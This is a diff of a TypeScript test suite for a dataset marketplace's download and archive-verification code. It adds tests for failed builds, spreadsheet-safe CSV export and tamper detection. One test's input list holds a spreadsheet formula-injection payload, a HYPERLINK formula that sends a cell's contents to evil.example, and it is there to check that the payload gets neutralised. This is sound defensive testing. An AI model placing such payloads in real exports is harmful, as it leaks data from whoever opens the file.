@@ -5,6 +5,7 @@ import sharp from "sharp";
 import { beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { GET as downloadRoute } from "@/app/api/datasets/[versionId]/download/route";
 import { getEnv } from "@/lib/env";
+import { parseCsv } from "@/lib/domain/manifest/csv";
 import { openZipArchive } from "@/lib/jobs/export/zip-archive";
 import { verifyExportArchive, type VerifyReport } from "@/lib/jobs/export/verify-export";
 import { createApiKey, revokeApiKey } from "@/lib/server/api-keys/api-keys";
@@ -13,7 +14,7 @@ import { ExportCache } from "@/lib/server/datasets/export-cache";
 import { runExportPrebuilder } from "@/lib/jobs/export-prebuilder";
 import { prebuilderAlive, touchPrebuilderHeartbeat } from "@/lib/server/datasets/export-requests";
 import { prebuildNextExport } from "@/lib/server/datasets/prebuild-exports";
-import { publishedRoot } from "@/lib/server/datasets/published-root";
+import { publishedRootFrom, trustedRegistry } from "@/lib/server/datasets/published-root";
 import { db } from "@/lib/server/db";
 import { defaultStorage } from "@/lib/server/storage/default-storage";
 import { ensureDeployments } from "@/lib/server/ensure-deployment";
@@ -42,7 +43,7 @@ async function verifyBytes(bytes: Buffer, name = "download.zip"): Promise<Verify
 async function verifyFile(file: string): Promise<VerifyReport> {
   const archive = await openZipArchive(file);
   try {
-    return await verifyExportArchive(archive, publishedRoot);
+    return await verifyExportArchive(archive, publishedRootFrom(await trustedRegistry({})));
   } finally {
     archive.close();
   }
@@ -170,6 +171,27 @@ describe("download: a buyer gets a verifiable zip", () => {
     expect((await verifyBytes(whole, "resumed.zip")).ok).toBe(true);
   });
 
+  it("ends only that response when its build fails part way, and serves the next download", async () => {
+    const images = await Promise.all(Array.from({ length: 20 }, (_, i) => sharp({ create: { width: 8, height: 8, channels: 3, background: { r: i * 12, g: 40, b: 90 } } }).png().toBuffer()));
+    const broken = await publishedVersion({
+      contributors: [contributor],
+      dataType: "IMAGE",
+      labelSchema: { kind: "single_label", labels: ["cat", "dog"] },
+      storage: defaultStorage(),
+      samples: images.map((bytes) => ({ image: { bytes, mimeType: "image/png" }, labels: "dog" })),
+    });
+    await purchase(broken.versionId, buyer.id);
+    const gone = await db.datasetVersionSample.findFirstOrThrow({ where: { versionId: broken.versionId, position: 15 }, select: { contentHash: true } });
+    await defaultStorage().delete(gone.contentHash);
+    const url = `${INTEGRATION.appUrl}/api/datasets/${broken.versionId}/download?format=parquet`;
+    const response = await downloadRoute(requestAs(buyer, url), { params: Promise.resolve({ versionId: broken.versionId }) });
+    expect(response.status).toBe(200); // the first bytes left before the missing file was reached
+    await expect(response.arrayBuffer()).rejects.toThrow(/The stored file [0-9a-f]{64} of this version is missing/);
+    expect(cachedZips()).toEqual([]);
+    const next = await download(buyer, text.versionId, { format: "parquet" });
+    expect((await verifyBytes(next.bytes)).ok).toBe(true);
+  });
+
   it("accepts a download-scoped API key of the buyer", async () => {
     const { key } = await createApiKey(asSessionUser(buyer), { name: "script", scopes: ["download"] });
     const { status, bytes } = await download(null, text.versionId, { headers: { authorization: `Bearer ${key}` } });
@@ -280,6 +302,51 @@ describe("prebuild: the worker builds published downloads before anyone asks", (
   });
 });
 
+describe("download: CSV for spreadsheets", () => {
+  const risky = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for the full review")', "+1 great", "-5 stars", "@SUM(A1:A9)", "\tindented", "'quoted already", "Plain text."];
+
+  it("passes formula-like cells through in csv (the hashed bytes), and neutralises them in csv-safe, which still verifies", async () => {
+    const version = await publishedVersion({ contributors: [contributor], samples: risky.map((t, i) => ({ text: t, labels: i % 2 ? "positive" : "negative" })) });
+    await purchase(version.versionId, buyer.id);
+    const cells = async (bytes: Buffer, name: string) => {
+      writeFileSync(path.join(scratch, name), bytes);
+      const entries = await zipEntries(path.join(scratch, name));
+      return [...entries].filter(([n]) => n.startsWith("data/")).flatMap(([, b]) => parseCsv(b.toString("utf8")).slice(1).flatMap((r) => r.fields));
+    };
+
+    const plain = await download(buyer, version.versionId, { format: "csv" });
+    expect(plain.status).toBe(200);
+    expect(await cells(plain.bytes, "plain.zip")).toContain(risky[0]);
+    expect((await verifyBytes(plain.bytes, "plain.zip")).findings).toEqual([]);
+
+    const safe = await download(buyer, version.versionId, { format: "csv-safe" });
+    expect(safe.status).toBe(200);
+    expect(safe.headers.get("content-disposition")).toMatch(/-v1-csv-safe\.zip"$/);
+    expect(safe.headers.get("etag")).not.toBe(plain.headers.get("etag"));
+    const safeCells = await cells(safe.bytes, "safe.zip");
+    expect(safeCells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(safeCells).toContain(`'${risky[0]}`);
+    expect(safeCells).toContain("''quoted already");
+    expect(safeCells).toContain("Plain text.");
+    const report = await verifyBytes(safe.bytes, "safe.zip");
+    expect(report.findings).toEqual([]);
+    expect(report.computedRoot).toBe(version.merkleRoot);
+    expect(report.manifest?.cells).toBe("spreadsheet-safe");
+
+    // A neutralised cell is still checked against its hash: a change inside it is found.
+    let edits = 0;
+    await rewriteZip(path.join(scratch, "safe.zip"), path.join(scratch, "safe-tampered.zip"), (name, bytes) => {
+      if (!name.startsWith("data/") || !bytes.includes("'=HYPERLINK")) return bytes;
+      const after = Buffer.from(bytes.toString("utf8").replace("'=HYPERLINK(", "'=HYPERLINK( "));
+      expect(after.equals(bytes)).toBe(false);
+      edits++;
+      return after;
+    });
+    expect(edits).toBe(1);
+    expect((await verifyFile(path.join(scratch, "safe-tampered.zip"))).findings).toContainEqual(expect.objectContaining({ problem: expect.stringMatching(/text hashes to/) }));
+  });
+});
+
 describe("download: refused requests", () => {
   const refusals: [string, () => Promise<{ user: TestUser | null; versionId: string; format?: string; headers?: Record<string, string> }>, number, string, RegExp][] = [
     ["without a purchase", async () => ({ user: await userWithSession({ name: "Stranger" }), versionId: text.versionId }), 403, "FORBIDDEN", /Buy this dataset version/],
@@ -370,6 +437,18 @@ describe("verifier: tampered downloads", () => {
   });
 
   const firstShard = "data/train-00000-of-";
+  /** A tamper that changes nothing would make a test pass or fail by chance: every edit must change the bytes. */
+  const changed = (before: Buffer, after: Buffer) => {
+    expect(after.equals(before), "the tamper changed no byte").toBe(false);
+    return after;
+  };
+  /** The shard with its first row edited (every shard has one), written back as JSONL. */
+  const editFirstRow = (bytes: Buffer, edit: (row: { sample_id: string; text: string; label: string }) => void) => {
+    const [first, ...rest] = bytes.toString("utf8").split("\n");
+    const row = JSON.parse(first!) as { sample_id: string; text: string; label: string };
+    edit(row);
+    return changed(bytes, Buffer.from([JSON.stringify(row), ...rest].join("\n")));
+  };
   const tamper = async (edit: (name: string, bytes: Buffer) => Buffer | null, extra?: Record<string, Buffer>) => {
     const target = path.join(scratch, "tampered.zip");
     await rewriteZip(original, target, edit, extra);
@@ -378,19 +457,24 @@ describe("verifier: tampered downloads", () => {
 
   it("names the file and the sample when one byte of a text changes", async () => {
     let sampleId = "";
-    const report = await tamper((name, bytes) => {
-      if (!name.startsWith(firstShard)) return bytes;
-      const row = JSON.parse(bytes.toString().split("\n")[0]!) as { sample_id: string };
-      sampleId = row.sample_id;
-      return Buffer.from(bytes.toString().replace("Review", "Reviex"));
-    });
+    const report = await tamper((name, bytes) =>
+      name.startsWith(firstShard)
+        ? editFirstRow(bytes, (row) => {
+            sampleId = row.sample_id;
+            row.text = row.text.replace("Review", "Reviex");
+          })
+        : bytes,
+    );
+    expect(sampleId).not.toBe("");
     expect(report.ok).toBe(false);
     expect(report.findings).toContainEqual(expect.objectContaining({ file: expect.stringMatching(/^data\/train-00000-of-\d{5}\.jsonl$/), problem: expect.stringMatching(/^differs from manifest.json/) }));
     expect(report.findings).toContainEqual(expect.objectContaining({ sampleId, problem: expect.stringMatching(/text hashes to/) }));
   });
 
   it("names the file and reports the Merkle root when a label changes", async () => {
-    const report = await tamper((name, bytes) => (name.startsWith(firstShard) ? Buffer.from(bytes.toString().replace('"label":"positive"', '"label":"negative"')) : bytes));
+    const report = await tamper((name, bytes) =>
+      name.startsWith(firstShard) ? editFirstRow(bytes, (row) => void (row.label = row.label === "positive" ? "negative" : "positive")) : bytes,
+    );
     expect(report.ok).toBe(false);
     expect(report.findings).toContainEqual(expect.objectContaining({ file: expect.stringMatching(/^data\/train-00000-of-/), problem: expect.stringMatching(/^differs from manifest.json/) }));
     expect(report.findings).toContainEqual(expect.objectContaining({ file: "data/", problem: expect.stringMatching(/the rows give Merkle root 0x[0-9a-f]{64}, manifest.json says/) }));
@@ -403,7 +487,7 @@ describe("verifier: tampered downloads", () => {
   });
 
   it("reports a manifest whose root is not the published one", async () => {
-    const report = await tamper((name, bytes) => (name === "manifest.json" ? Buffer.from(bytes.toString().replace(text.merkleRoot, `0x${"0".repeat(64)}`)) : bytes));
+    const report = await tamper((name, bytes) => (name === "manifest.json" ? changed(bytes, Buffer.from(bytes.toString().replace(text.merkleRoot, `0x${"0".repeat(64)}`))) : bytes));
     expect(report.findings).toContainEqual(expect.objectContaining({ file: "manifest.json", problem: expect.stringMatching(/is not the published one/) }));
   });
 });
